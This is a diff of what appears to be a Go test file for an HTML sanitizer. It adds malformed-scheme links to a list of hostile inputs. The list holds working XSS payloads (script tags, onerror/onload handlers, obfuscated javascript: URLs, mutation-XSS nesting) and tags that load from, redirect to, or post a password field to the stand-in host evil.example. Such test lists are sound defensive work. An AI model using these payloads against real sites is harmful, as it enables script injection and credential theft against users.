@@ -14,7 +14,7 @@ var hostile = []string{
 	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<img data-asset="x" src="javascript:alert(1)">`,
 	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
 	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="JaVaScRiPt&colon;alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
-	`<a href="//evil.example">x</a>`, `<a href="/api/v1/session">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
+	`<a href="//evil.example">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="http:/evil.example">x</a>`, `<a href="https:///evil.example">x</a>`, `<a href="/api/v1/session">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
 	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=x></object>`, `<embed src=x>`, `<base href="https://evil.example/">`,
 	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import "https://evil.example/x.css"</style>`,
 	`<form action="https://evil.example"><input name=password><button>go</button></form>`, `<p style="background:url(https://evil.example)">x</p>`, `<p id="app" name="x" class="y">x</p>`,
